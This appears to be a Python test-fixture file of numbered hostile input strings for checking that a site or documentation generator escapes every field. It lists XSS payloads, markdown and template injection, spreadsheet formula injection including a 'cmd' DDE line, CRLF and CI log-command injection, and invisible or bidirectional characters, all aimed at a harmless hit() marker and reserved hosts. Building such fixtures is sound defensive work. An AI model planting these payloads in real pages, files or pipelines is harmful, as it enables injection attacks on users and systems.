"""Hostile texts, each with a number; ``MARK`` in one says which text it is and in which field it was written, wherever it shows up."""

from __future__ import annotations

import re

# Whatever runs calls hit('…'), which no page of ours has. The first is a plain one: where it is shown, all others must be.
WRITTEN = (
    "plain MARK text",
    # Elements and attributes, alone and out of what may stand around a text.
    "</title></style></textarea></script><script>hit('MARK')</script>",
    "<img src=x onerror=hit('MARK')>",
    "<img src=x onerror=hit('MARK')//",
    "<svg/onload=hit('MARK')>",
    "<svg><script>hit('MARK')",
    "\"><b onclick=hit('MARK') onmouseover=hit('MARK') autofocus tabindex=1 onfocus=hit('MARK')>",
    "' onmouseover=hit('MARK') onfocus=hit('MARK') autofocus tabindex=1 x='",
    '" onmouseover="hit(\'MARK\')" onfocus="hit(\'MARK\')" autofocus tabindex="1',
    "x` onmouseover=hit('MARK') `",
    "<iframe srcdoc=\"<script>parent.hit('MARK')</script>\"></iframe>",
    "<iframe src=javascript:parent.hit('MARK')></iframe>",
    "<!--><img src=x onerror=hit('MARK')>-->",
    "--><script>hit('MARK')</script><!--",
    "]]><script>hit('MARK')</script><![CDATA[",
    "<details open ontoggle=hit('MARK')>x</details>",
    "<form action=javascript:hit('MARK')><button formaction=javascript:hit('MARK')>x</button></form>",
    "<base href=//x.invalid/><meta http-equiv=refresh content='0;url=//x.invalid/?MARK'>",
    "<link rel=stylesheet href=//x.invalid/MARK.css>",
    "<style>@import url(//x.invalid/MARK.css);*{display:none}</style>",
    "<object data=//x.invalid/MARK></object><embed src=//x.invalid/MARK>",
    "<math><mtext></mtext><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=hit('MARK') src=1>\">",
    "<template><script>hit('MARK')</script></template>",
    "<scr<script>ipt>hit('MARK')</scr</script>ipt>",
    "<xmp><p title=\"</xmp><img src=x onerror=hit('MARK')>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=hit('MARK')>\">",
    "<a href=\"javascript:hit('MARK')\" id=__config name=__search>x</a>",
    # Scripts, styles and data of a page.
    "`${hit('MARK')}` ${hit('MARK')}",
    "\\';hit('MARK');//\\\";hit('MARK');//",
    "'-hit('MARK')-'",
    "</script><script>hit('MARK')//",
    "x;background:url(//x.invalid/MARK)",
    "__proto__ MARK",
    # What is read twice.
    "&lt;img src=x onerror=hit('MARK')&gt;",
    "&#60;img src=x onerror=hit('MARK')&#62;",
    "&#x3c;script&#x3e;hit('MARK')&#x3c;/script&#x3e;",
    "&amp;lt;script&amp;gt;hit('MARK')&amp;lt;/script&amp;gt;",
    "\\u003cimg src=x onerror=hit('MARK')\\u003e \\x3cscript\\x3e",
    "%3Cscript%3Ehit('MARK')%3C/script%3E",
    "＜script＞hit('MARK')＜/script＞",
    # Addresses.
    "javascript:hit('MARK')",
    "JaVaScRiPt&colon;hit&lpar;'MARK'&rpar;",
    "data:text/html,<script>parent.hit('MARK')</script>",
    "//x.invalid/MARK",
    "https://x.invalid/?\"onmouseover=\"hit('MARK')'><b>",
    "https://MARK@x.invalid\\@y.invalid",  # to some the host is y.invalid, to browsers x.invalid
    # These are addresses: of y.invalid, and of nobody else.
    "https://y.invalid/'onmouseover=hit('MARK')//",
    "https://y.invalid/#javascript:hit('MARK');x,y:z",
    "https://y.invalid/{{7*7}}${hit('MARK')}/]]&lt;",
    "mailto:MARK@y.invalid?subject=x%0d%0abcc:x@x.invalid",
    "https://y.invalid/x.invalid/)MARK(javascript:hit('MARK')",
    # Markdown. A link or a picture of an address is that link, to y.invalid; nothing is fetched from there.
    "[MARK](javascript:hit('MARK'))",
    "[MARK](<java&#115;cript:hit('MARK')>)",
    "[MARK](data:text/html,<script>hit('MARK')</script>)",
    "[MARK](//y.invalid/a)",
    "![MARK](https://y.invalid/x.png)",
    "<javascript:hit('MARK')>",
    "[MARK]\n\n[MARK]: javascript:hit('MARK')",
    "```html\n<script>hit('MARK')</script>\n```",
    "[[standard/prepared-meetings|<img src=x onerror=hit('MARK')>]]",
    "MARK {: onclick=hit('MARK') } { onclick=\"hit('MARK')\" }",
    "!!! note \"<img src=x onerror=hit('MARK')>\"\n    MARK\n\n--8<-- \"mkdocs.yml\"",
    "# MARK {#__search onclick=hit('MARK')}\n\n:fontawesome-solid-x: ==MARK== *[MARK]: x",
    # Templates.
    "{{ 7*7 }} MARK {{ config }}",
    "{% raw %} MARK {% include 'x' %} {# x",
    "${{ secrets.X }} MARK %(x)s {x} {0} %s",
    # Formulas.
    '=HYPERLINK("//x.invalid/?MARK","x")',
    "+MARK",
    "-2+3+cmd|' /C MARK'!A0",
    "@SUM(MARK)",
    "MARK;=1+1|@x,-1\t=2",
    "＝1+MARK",
    "\t=MARK",
    "\",\"=MARK",
    # Lines of feeds, of logs, of other formats.
    "MARK\nEND:VEVENT\nBEGIN:VALARM\nACTION:PROCEDURE\nATTACH:MARK",
    "MARK\r\nATTENDEE:mailto:x@x.invalid",
    "MARK;x,y:z\\nATTACH:x\\;\\,\\\\",
    "::error file=MARK::y%0A::stop-commands::x",
    "MARK\n::set-env name=MARK::b\n::stop-commands::x",
    "##vso[task.setvariable variable=MARK]b ##[group]x ##teamcity[x]",
    "MARK\n##[error]x",
    "* @MARK\n/ @x",
    "---\npublish: false\n---\nMARK",
    # Several at once; the two that `make test` tries.
    "evil</title></script><script>hit('MARK')</script><img src=x onerror=hit('MARK')>{{ 7*7 }}{% raw %}[x](javascript:hit('MARK'))",
    "\"><b onclick=hit('MARK')>' onmouseover=hit('MARK') x='<!-- <svg/onload=hit('MARK')> &lt;i&gt; ${hit('MARK')}\n::error::MARK",
    "مرحبا MARK שלום e\u0301\u0335",
    "👩‍👩‍👧 MARK 💥 \U0001d504",
)  # fmt: skip
# What the reader lets into no field: signs that nobody sees, or that turn what is read around; as they are, and as YAML writes them.
UNREADABLE = (
    "a\x00bMARK",
    "\x1b]0;MARK\x07\x1b[2J",
    "\x08\x7f\x85MARK",
    "a\u2028MARK\u2029b",
    "\ud800MARK",
    "MARK\udc00\ud800",
    "\ufdd0\uffffMARK",
    "\u202e=MARK",
    "\u2066MARK\u2069",
    "MARK\ufeffx",
)
# Those that a field for addresses takes.
ADDRESSES = frozenset(number for number, each in enumerate(WRITTEN) if re.match(r"https://y\.invalid|mailto:", each))
EVIL = tuple(number for number, each in enumerate(WRITTEN) if each.startswith(("evil<", "\"><b onclick=hit('MARK')>")))


def text_of(number: int, mark: str) -> str:
    """Return one of the texts with its mark; behind those that can be read are those that cannot."""
    every = (*WRITTEN, *UNREADABLE, *UNREADABLE)
    return every[number].replace("MARK", mark)


def is_escaped(number: int) -> bool:
    """Tell whether a text is written with the escapes of YAML, which then say what cannot be read."""
    return number >= len(WRITTEN) + len(UNREADABLE)
